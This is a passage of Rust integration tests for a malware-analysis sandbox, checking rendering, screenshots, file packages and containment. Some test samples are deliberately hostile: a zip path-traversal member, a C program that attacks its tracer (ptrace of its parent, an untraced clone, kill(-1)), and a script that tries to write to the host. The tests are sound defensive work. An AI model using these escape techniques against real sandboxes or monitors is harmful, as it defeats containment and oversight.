            "process_masquerading",
            "network_sniffing",
            "fileless_execution",
            "cryptominer_strings",
            "xmrig_miner",
            "ransomware_mass_rename",
            "dropped_high_entropy_files",
            "ransomware_note",
            "deletes_itself",
        ],
    );
    assert_eq!(r["malfamily"], "XMRig", "{}", r["malfamily"]);

    let r = report(&s, benign);
    assert!(
        r["behavior"]["processes"].as_array().unwrap().len() >= 5,
        "{}",
        r["debug"]
    );
    assert_eq!(
        signature_names(&r),
        Vec::<String>::new(),
        "{}",
        r["behavior"]["summary"]
    );
    assert_eq!(r["info"]["score"].as_f64(), Some(0.0));
    assert_no_leftovers(uid_base);
}

/// The raw scanlines of a PNG (zlib-inflated IDAT chunks), checking the signature.
fn png_pixels(png: &[u8]) -> (u32, u32, Vec<u8>) {
    use std::io::Read;
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n", "not a PNG");
    let mut i = 8;
    let (mut w, mut h, mut idat) = (0, 0, Vec::new());
    while i + 8 <= png.len() {
        let len = u32::from_be_bytes(png[i..i + 4].try_into().unwrap()) as usize;
        let kind = &png[i + 4..i + 8];
        let data = &png[i + 8..i + 8 + len];
        match kind {
            b"IHDR" => {
                w = u32::from_be_bytes(data[0..4].try_into().unwrap());
                h = u32::from_be_bytes(data[4..8].try_into().unwrap());
            }
            b"IDAT" => idat.extend_from_slice(data),
            _ => {}
        }
        i += 12 + len;
    }
    let mut raw = Vec::new();
    flate2::read::ZlibDecoder::new(&idat[..])
        .read_to_end(&mut raw)
        .unwrap();
    (w, h, raw)
}

#[test]
fn url_task_is_rendered_by_chromium_with_screenshot_and_requests() {
    let uid_base = 260_000;
    let s = sandbox_server(uid_base);
    let r = s.post_form(
        "/tasks/create/url",
        &[
            ("url", "http://www.landing-page.test/welcome.html?c=42"),
            ("timeout", "60"),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let id = r.json()["task_id"].as_i64().unwrap();
    let r = report(&s, id);
    let log = r["debug"].to_string();
    assert!(log.contains("package chromium"), "{log}");
    // Every request the page made is in network.http (the sink answered it).
    let http = r["network"]["http"].as_array().unwrap();
    assert!(
        http.iter().any(
            |h| h["uri"] == "http://www.landing-page.test/welcome.html?c=42"
                && h["method"] == "GET"
                && h["user-agent"].as_str().unwrap_or("").contains("Chrome")
        ),
        "{http:?} {log}"
    );
    let dns: Vec<&str> = r["network"]["dns"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["request"].as_str())
        .collect();
    assert!(dns.contains(&"www.landing-page.test"), "{dns:?}");
    // The screenshot: listed, served, a real 1024×768 image with content on it.
    assert_eq!(r["screenshots"][0]["path"], "shots/0001.png", "{log}");
    let shot = s.get(&format!("/tasks/screenshots/{id}/0001"));
    assert_eq!(shot.status, 200);
    assert_eq!(shot.header("content-type"), Some("image/png"));
    let (w, h, raw) = png_pixels(&shot.body);
    assert_eq!((w, h), (1024, 768));
    let distinct: std::collections::BTreeSet<u8> = raw.iter().copied().collect();
    assert!(
        distinct.len() > 16,
        "the screenshot is blank ({} distinct byte values)",
        distinct.len()
    );
    let zip = s.get(&format!("/tasks/screenshots/{id}"));
    assert_eq!(zip.status, 200);
    // The browser's own profile is not a dropped file; the browser is not the sample.
    assert!(
        r["dropped"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| !d["filepath"]
                .as_str()
                .unwrap_or("")
                .contains("nestbox-browser")),
        "{}",
        r["dropped"]
    );
    let names = signature_names(&r);
    assert_eq!(names, ["http_request"], "{names:?}");
    assert_no_leftovers(uid_base);
}

#[test]
fn file_task_with_a_window_gets_display_screenshots() {
    let uid_base = 270_000;
    let s = sandbox_server(uid_base);
    // xlogo (x11-apps) draws a window on the sandbox's virtual display.
    let script = b"#!/bin/sh\nxlogo -geometry 500x500+100+100 &\nsleep 3\nkill $!\nexit 0\n";
    let id = submit(&s, "gui.sh", script, 30, "");
    let r = report(&s, id);
    let shots = r["screenshots"].as_array().unwrap();
    assert!(!shots.is_empty(), "{}", r["debug"]);
    assert_eq!(shots[0]["path"], "shots/0001.png");
    // The shots show the window: some capture is not one flat colour.
    let mut drawn = false;
    for n in 1..=shots.len() {
        let shot = s.get(&format!("/tasks/screenshots/{id}/{n:04}"));
        assert_eq!(shot.status, 200);
        let (w, h, raw) = png_pixels(&shot.body);
        assert_eq!((w, h), (1024, 768));
        // Rows are a filter byte and RGB pixels; xlogo is black on white, the root black.
        let pixels: Vec<u8> = raw
            .chunks(1 + w as usize * 3)
            .flat_map(|row| row[1..].iter().copied())
            .collect();
        let lit = pixels.iter().filter(|b| **b != pixels[0]).count();
        drawn |= lit > 10_000;
    }
    assert!(drawn, "no screenshot shows the window");
    // The display is the analyser's: Xvfb and xwd are not in the sample's tree, and
    // their files are not dropped files.
    let procs = r["behavior"]["processes"].as_array().unwrap();
    assert!(
        procs
            .iter()
            .all(|p| !["Xvfb", "xwd"].contains(&p["process_name"].as_str().unwrap_or(""))),
        "{procs:?}"
    );
    assert!(procs.iter().any(|p| p["process_name"] == "xlogo"));
    assert!(
        r["dropped"].as_array().unwrap().is_empty(),
        "{}",
        r["dropped"]
    );
    assert_eq!(signature_names(&r), Vec::<String>::new());
    // screenshots=no skips the display.
    let id = submit(&s, "gui.sh", script, 30, "screenshots=no");
    let r = report(&s, id);
    assert_eq!(r["screenshots"], serde_json::json!([]));
    assert_no_leftovers(uid_base);
}

const SO_C: &str = r#"
#include <stdio.h>
__attribute__((constructor)) static void loaded(void) {
    FILE *f = fopen("/tmp/so_loaded.txt", "w");
    if (f) { fputs("constructor ran\n", f); fclose(f); }
}
void run(void) {
    FILE *f = fopen("/tmp/so_run.txt", "w");
    if (f) { fputs("exported function ran\n", f); fclose(f); }
}
"#;

const MAIN_JAVA: &str = r#"
public class Main {
    public static void main(String[] args) throws Exception {
        java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/from_java.txt"), "java ran " + args.length + "\n");
    }
}
"#;

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default();
    for (name, data) in members {
        z.start_file(*name, o).unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap().into_inner()
}

fn dropped_text(s: &Server, id: i64) -> String {
    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
    String::from_utf8_lossy(&tar.body).into_owned()
}

#[test]
fn packages_shared_object_jar_archive_and_html() {
    let uid_base = 280_000;
    let s = sandbox_server(uid_base);
    let dir = tempfile::tempdir().unwrap();
    // A shared object: loaded by the harness, its exported function called (function=).
    let c = dir.path().join("lib.c");
    std::fs::write(&c, SO_C).unwrap();
    let so = dir.path().join("libevil.so");
    let st = std::process::Command::new("gcc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(&c)
        .status()
        .unwrap();
    assert!(st.success());
    let so_id = submit(
        &s,
        "libevil.so",
        &std::fs::read(&so).unwrap(),
        30,
        "function=run",
    );
    // A jar built with the JDK.
    std::fs::write(dir.path().join("Main.java"), MAIN_JAVA).unwrap();
    let st = std::process::Command::new("javac")
        .arg("Main.java")
        .current_dir(dir.path())
        .status()
        .expect("javac (openjdk-17-jdk-headless) builds the jar sample");
    assert!(st.success());
    let st = std::process::Command::new("jar")
        .args(["cfe", "app.jar", "Main", "Main.class"])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(st.success());
    let jar_id = submit(
        &s,
        "app.jar",
        &std::fs::read(dir.path().join("app.jar")).unwrap(),
        60,
        "arguments=a b",
    );
    // An archive: unpacked, the runnable member started.
    let zip = zip_of(&[
        ("docs/readme.txt", b"read me"),
        (
            "../../../tmp/escape.sh",
            b"#!/bin/sh\necho escaped > /tmp/escaped.txt\n",
        ),
        (
            "bin/setup.sh",
            b"#!/bin/sh\necho \"from the zip: $0\" > /tmp/from_zip.txt\n",
        ),
    ]);
    let zip_id = submit(&s, "bundle.zip", &zip, 30, "file=setup.sh");
    // A document opened by the viewer (Chromium for HTML).
    let html = b"<html><body><h1>Invoice 2291</h1><p>Please pay.</p><img src=\"http://cdn.invoice-img.test/pixel.gif\"></body></html>";
    let html_id = submit(&s, "invoice.html", html, 60, "");

    let r = report(&s, so_id);
    let procs = r["behavior"]["processes"].as_array().unwrap();
    assert_eq!(procs[0]["process_name"], "python3", "{}", r["debug"]);
    let body = dropped_text(&s, so_id);
    assert!(body.contains("constructor ran"), "{body} {}", r["debug"]);
    assert!(body.contains("exported function ran"), "{body}");

    let r = report(&s, jar_id);
    let body = dropped_text(&s, jar_id);
    assert!(body.contains("java ran 2"), "{body} {}", r["debug"]);
    assert!(
        r["debug"]["log"].to_string().contains("package jar"),
        "{}",
        r["debug"]
    );

    let r = report(&s, zip_id);
    let body = dropped_text(&s, zip_id);
    assert!(
        body.contains("from the zip: /tmp/bundle.zip_files/bin/setup.sh"),
        "{body} {}",
        r["debug"]
    );
    assert!(!body.contains("escaped"), "{body}");
    // The unpacked members are the sample's, not dropped files.
    assert!(
        r["dropped"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| !d["filepath"].as_str().unwrap().contains("_files/")),
        "{}",
        r["dropped"]
    );

    let r = report(&s, html_id);
    assert_eq!(
        r["screenshots"][0]["path"], "shots/0001.png",
        "{}",
        r["debug"]
    );
    let http = r["network"]["http"].as_array().unwrap();
    assert!(
        http.iter()
            .any(|h| h["uri"] == "http://cdn.invoice-img.test/pixel.gif"),
        "{http:?}"
    );
    assert_no_leftovers(uid_base);
}

/// A real one-page PDF (catalog, page tree, page, content stream drawing a black box and
/// text with a standard font, xref with exact offsets).
fn pdf_with_text(text: &str) -> Vec<u8> {
    let content = format!("0 0 0 rg 72 500 300 150 re f BT /F1 36 Tf 72 400 Td ({text}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R \
         /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_owned(),
        format!(
            "<< /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (n, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", n + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

#[test]
fn documents_open_in_a_viewer_with_screenshots_or_say_why_not() {
    let uid_base = 300_000;
    let s = sandbox_server(uid_base);
    let pdf = pdf_with_text("nestbox viewer test");
    let id = submit(&s, "invoice.pdf", &pdf, 60, "view_time=4");
    let r = report(&s, id);
    let log = r["debug"]["log"].to_string();
    assert!(log.contains("package pdf ran /usr/bin/mupdf"), "{log}");
    assert!(
        log.contains("the viewer was closed after showing the document for 4 s"),
        "{log}"
    );
    // The viewer is the root of the process tree, and what it showed is in the shots.
    let procs = r["behavior"]["processes"].as_array().unwrap();
    assert!(
        procs.iter().any(|p| p["process_name"] == "mupdf"),
        "{procs:?}"
    );
    let shots = r["screenshots"].as_array().unwrap();
    assert!(!shots.is_empty(), "{}", r["debug"]);
    let mut drawn = false;
    for n in 1..=shots.len() {
        let shot = s.get(&format!("/tasks/screenshots/{id}/{n:04}"));
        assert_eq!(shot.status, 200);
        let (w, _, raw) = png_pixels(&shot.body);
        let pixels: Vec<u8> = raw
            .chunks(1 + w as usize * 3)
            .flat_map(|row| row[1..].iter().copied())
            .collect();
        // The page is white with a black box and text on the display's black root.
        let white = pixels
            .chunks(3)
            .filter(|p| p.iter().all(|c| *c > 240))
            .count();
        let black = pixels
            .chunks(3)
            .filter(|p| p.iter().all(|c| *c < 16))
            .count();
        drawn |= white > 50_000 && black > 10_000;
    }
    assert!(drawn, "no screenshot shows the rendered page");
    // The static report is there too.
    assert_eq!(r["target"]["file"]["name"], "invoice.pdf");

    // An Office document with no Office suite installed: a clear error, static report kept.
    if package_missing(&["/usr/bin/soffice", "/usr/lib/libreoffice/program/soffice"]) {
        let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really a document";
        let id = submit(&s, "report.doc", ole, 5, "");
        let r = report(&s, id);
        let errors = r["debug"]["errors"].to_string();
        assert!(
            errors.contains("No Office document viewer is installed on this node"),
            "{errors}"
        );
        assert_eq!(r["target"]["file"]["name"], "report.doc");
    }
    assert_no_leftovers(uid_base);
}

fn package_missing(paths: &[&str]) -> bool {
    paths.iter().all(|p| !Path::new(p).exists())
}

const HOSTILE_C: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

static void *spin(void *a) { for (;;) pause(); return a; }

int main(void) {
    FILE *out = fopen("/tmp/hostile.txt", "w");
    pid_t parent = getppid();
    errno = 0;
    long rc = ptrace(PTRACE_ATTACH, parent, 0, 0);
    fprintf(out, "attach=%ld %s\n", rc, strerrorname_np(errno));
    errno = 0;
    rc = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
    if (rc == 0) _exit(0);
    fprintf(out, "untraced=%ld %s\n", rc, strerrorname_np(errno));
    /* Signals for everything it can see: the tracer is not among it. */
    rc = kill(1, SIGSTOP);
    fprintf(out, "stop_init=%ld\n", rc);
    kill(1, SIGCONT);
    fflush(out);
    pthread_t t;
    for (int i = 0; i < 4; i++) pthread_create(&t, 0, spin, 0);
    /* A child that stops itself, and a zombie nobody reaps. */
    if (fork() == 0) { raise(SIGSTOP); _exit(0); }
    if (fork() == 0) _exit(7);
    fclose(out);
    kill(-1, SIGKILL);
    return 0;
}
"#;

/// A sample that attacks its tracer and the tree around it (ptrace of its parent, an
/// untraced clone, SIGSTOP to the sandbox's init, kill(-1), a self-stopped child, a zombie,
/// spinning threads): the analysis ends with a report, the attempts are in it, the server
/// that traces it is untouched, and nothing is left behind. Under the eBPF tracer (the
/// default).
#[test]
fn hostile_sample_cannot_escape_or_stop_the_tracer() {
    hostile_sample(310_000, "ebpf");
}

/// The same under the native ptrace tracer.
#[test]
fn hostile_sample_cannot_escape_or_stop_the_native_tracer() {
    hostile_sample(311_000, "native");
}

fn hostile_sample(uid_base: u32, tracer: &str) {
    let s = sandbox_server_with(uid_base, &format!("tracer = \"{tracer}\""));
    let dir = tempfile::tempdir().unwrap();
    let elf = gcc(dir.path(), "hostile", HOSTILE_C);
    let t0 = Instant::now();
    let id = submit(&s, "hostile", &elf, 5, "");
    let r = report(&s, id);
    assert!(t0.elapsed() < Duration::from_secs(30));
    let calls = all_calls(&r);
    // Refused either way (the sandbox's seccomp filter, or the ptrace tracer), and
    // recorded with its arguments.
    let ptrace = calls
        .iter()
        .find(|c| c["api"] == "ptrace")
        .expect("ptrace recorded");
    assert_eq!(ptrace["arguments"]["request"], "PTRACE_ATTACH");
    assert_eq!(ptrace["errno"], "EPERM", "{ptrace}");
    let untraced = calls
        .iter()
        .find(|c| {
            c["api"] == "clone"
                && c["arguments"]["flags"]
                    .as_str()
                    .unwrap_or("")
                    .contains("CLONE_UNTRACED")
        })
        .expect("the untraced clone recorded");
    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
    let body = String::from_utf8_lossy(&tar.body);
    if tracer == "native" {
        // ptrace cannot follow it: refused.
        assert_eq!(untraced["errno"], "EPERM");
        assert!(body.contains("untraced=-1 EPERM"), "{body}");
    } else {
        // The kernel programs follow every fork, CLONE_UNTRACED or not: it runs, and its
        // child is in the process tree.
        let child = untraced["return"].as_i64().expect("a pid");
        assert!(child > 0, "{untraced}");
        let procs = r["behavior"]["processes"].as_array().unwrap();
        assert!(
            procs.iter().any(|p| p["pid"] == child),
            "the untraced clone's child {child} is not in the tree"
        );
    }
    assert!(
        calls
            .iter()
            .any(|c| c["api"] == "kill" && c["arguments"]["pid"] == "-1"),
        "kill(-1) recorded"
    );
    assert!(body.contains("attach=-1 EPERM"), "{body}");
    // The server (the tracer's process) is alive and answers.
    assert_eq!(s.get("/cuckoo/status").status, 200);
    assert_no_leftovers(uid_base);
}

/// The strace fallback (`[sandbox] tracer = "strace"`): the same chain in front of bwrap
/// (cgroup, fd 3, slot network from the forked child; strace, setpriv and prlimit as
/// programs), the same behaviour shape, the same containment.
#[test]
fn the_strace_fallback_records_the_process_tree() {
    let uid_base = 216_000;
    let s = Server::start(&format!(
        "[analysis]\nworkers = 1\n[sandbox]\nslots = 1\ntracer = \"strace\"\n\
         uid_base = {uid_base}\n[emulator]\nenabled = false\n"
    ));
    let mark = format!("nbx-strace-{}", std::process::id());
    let script = format!(
        "#!/bin/sh\necho hi > /tmp/out.txt\nsh -c 'cat /etc/hostname' > /tmp/h.txt\n\
         echo pwned > {}/{mark} 2>/dev/null\nexit 0\n",
        s.data().display()
    );
    let id = submit(&s, "fallback.sh", script.as_bytes(), 20, "");
    let r = report(&s, id);
    let procs = r["behavior"]["processes"].as_array().unwrap();
    assert!(procs.len() >= 2, "{procs:?}");
    assert_eq!(procs[0]["process_name"], "fallback.sh");
    let calls = all_calls(&r);
    let apis: Vec<&str> = calls
        .iter()
        .filter_map(|c| c["api"].as_str())
        .map(|a| if a == "openat" { "open" } else { a })
        .collect();
    assert!(
        apis.contains(&"execve") && apis.contains(&"open"),
        "{apis:?}"
    );
    assert!(!s.data().join(&mark).exists(), "a write reached the host");
    let dropped = r["dropped"].as_array().unwrap();
    assert!(
        dropped.iter().any(|d| d["name"] == "out.txt"),
        "{dropped:?}"
    );
    assert_no_leftovers(uid_base);
}
